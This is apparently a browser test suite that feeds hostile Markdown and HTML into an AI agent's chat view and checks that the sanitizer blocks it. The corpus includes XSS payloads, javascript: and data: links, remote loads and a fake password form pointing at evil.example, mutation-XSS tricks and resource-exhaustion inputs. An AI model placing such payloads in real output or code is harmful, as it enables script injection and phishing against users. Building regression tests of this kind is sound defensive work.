// What an agent writes is shown, never run: no script, no request, nothing drawn outside its message.
import { before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { useStage } from "./scene.mjs";

const CORPUS = {
  script: "<script>window.hacked = 1</script>\n\ntext",
  "script in a line": "before <script src=https://evil.example/x.js></script> after",
  handler: '<img src=x onerror="window.hacked = 1">\n\n<b onmouseover="window.hacked = 1">b</b>\n\n<details ontoggle="window.hacked=1" open>x</details>',
  "javascript link": "[click](javascript:window.hacked=1) [two](JaVaScRiPt:alert(1)) [three](java&#x0A;script:alert(1)) <javascript:alert(1)>",
  "data link": "[click](data:text/html,<script>window.hacked=1</script>) [vb](vbscript:x)",
  "remote image": "![pixel](https://evil.example/p.png) ![x](//evil.example/y.png) <img src=https://evil.example/z.png>",
  "image by reference": "![a][b]\n\n[b]: https://evil.example/b.png",
  svg: '<svg onload="window.hacked=1"><image href="https://evil.example/s.png"/><foreignObject><script>window.hacked=1</script></foreignObject></svg>',
  "svg image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  form: '<form action="https://evil.example/"><input name=password><button>Allow once</button></form>',
  frame: '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">',
  style: '<style>*{position:fixed;background:url(https://evil.example/c.png)}</style><p style="position:fixed;inset:0;background:red">cover</p>',
  "link and meta": '<link rel=stylesheet href=https://evil.example/s.css><meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">',
  "names that shadow": '<a id="main" name="pupitre">x</a><form id="page"></form><img name="pupitre">',
  "class of ours": '<div class="ask"><button class="button main">Allow once</button></div><span class="streaming-mark">x</span>',
  media: '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
  math: '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=1">',
  mutation: '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">\n\n<svg></p><style><a id="</style><img src=1 onerror=window.hacked=1>">',
  "deep quotes": `${">".repeat(20_000)} deep`,
  "deep list": Array.from({ length: 400 }, (_, at) => `${"  ".repeat(at)}- x`).join("\n"),
  "deep stress": `${"**".repeat(20_000)}x`,
  "deep brackets": "[".repeat(20_000),
  "deep tags": "<b>".repeat(5_000),
  "long line": "x".repeat(200_000),
  "wide table": `|${"a|".repeat(400)}\n|${"-|".repeat(400)}\n|${"b|".repeat(400)}`,
  "direction": "safe \u202e txt.exe \u2066 x",
  "zalgo": `z${"\u0301".repeat(3_000)}`,
  "fence language": '```"><img src=x onerror=window.hacked=1>\ncode\n```',
  "huge heading": `# ${"H".repeat(5_000)}`,
  entities: "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62;",
};

describe("hostile Markdown", () => {
  const scene = useStage({ path: "#/agents/scratch", ready: "textarea" });
  let page;
  before(() => ({ page } = scene));

  for (const [name, text] of Object.entries(CORPUS)) {
    test(name, async () => {
      const { stage } = scene;
      // Each case has a conversation of its own.
      const conversation = stage.begin("scratch");
      await page.waitForFunction((id) => window.pupitre.conversations.find("scratch", null)?.head?.conversation === id, conversation);
      await page.waitForSelector(".prose", { state: "detached" });
      stage.turn("scratch", true);
      stage.say("scratch", "Before.\n\n");
      // It streams first, so that every unfinished form of it is drawn, too.
      const step = Math.max(1, Math.ceil(text.length / 8));
      for (let from = 0; from < text.length; from += step) stage.say("scratch", text.slice(from, from + step));
      stage.say("scratch", "\n\nAfter.");
      await page.waitForSelector(".prose");
      stage.finish("scratch");
      await page.waitForFunction(() => window.pupitre.conversations.find("scratch", null)?.messages.at(-1)?.value.done === true);
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
      const found = await page.evaluate(() => {
        const troubles = [];
        if (window.hacked !== undefined) troubles.push("a script ran");
        const prose = [...document.querySelectorAll(".turn .prose")];
        const message = prose.at(-1).closest("article").getBoundingClientRect();
        const talk = document.querySelector("[role=log]").getBoundingClientRect();
        for (const element of prose.flatMap((root) => [...root.querySelectorAll("*")])) {
          const tag = element.tagName.toLowerCase();
          if (/^(script|style|svg|form|input|iframe|object|embed|link|meta|base|video|audio|math|details|noscript|div)$/.test(tag) && !element.matches(".wide")) troubles.push(`<${tag}>`);
          for (const { name, value } of element.attributes) {
            if (/^on|^style$|^srcset$|^id$|^name$/.test(name)) troubles.push(`${tag} ${name}=${value.slice(0, 60)}`);
            if (name === "href" && !/^(https?|mailto):/.test(value)) troubles.push(`href ${value.slice(0, 60)}`);
            if (name === "src" && !/^data:image\/(png|jpeg|gif|webp);/.test(value)) troubles.push(`src ${value.slice(0, 60)}`);
          }
          if (["fixed", "sticky"].includes(getComputedStyle(element).position)) troubles.push(`${tag} is fixed`);
          if (element.closest("code, .wide") && !element.matches("pre, .wide")) continue;
          const box = element.getBoundingClientRect();
          const isInside = box.width === 0 || (box.left >= message.left - 1 && box.right <= message.right + 1 && box.top >= message.top - 1 && box.bottom <= message.bottom + 1);
          if (!isInside) troubles.push(`<${tag}> is drawn outside its message`);
        }
        if (document.documentElement.scrollWidth > innerWidth) troubles.push("the page became wider than its window");
        if (message.left < talk.left || message.right > talk.right) troubles.push("the message is wider than the talk");
        return { troubles: [...new Set(troubles)], text: prose.map((root) => root.textContent).join("\n") };
      });
      assert.deepEqual(found.troubles, []);
      assert.match(found.text, /Before\./);
      assert.match(found.text, /After\./);
      assert.deepEqual(page.troubles.splice(0), []);
      await page.evaluate(() => delete window.hacked);
    });
  }
});
